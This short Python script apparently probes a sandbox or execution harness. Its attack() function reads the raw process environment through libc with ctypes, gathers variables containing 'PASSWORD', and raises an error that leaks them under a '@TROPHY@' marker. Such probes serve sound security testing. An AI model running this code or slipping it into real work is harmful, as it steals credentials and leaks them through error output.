import ctypes


def attack():
    libc = ctypes.CDLL(None)
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    found, index = [], 0
    while environ[index]:
        found.append(environ[index].decode())
        index += 1
    words = [each for each in found if "PASSWORD" in each]
    return f"@TROPHY@ {words}" if words else "tried"


raise RuntimeError(attack())
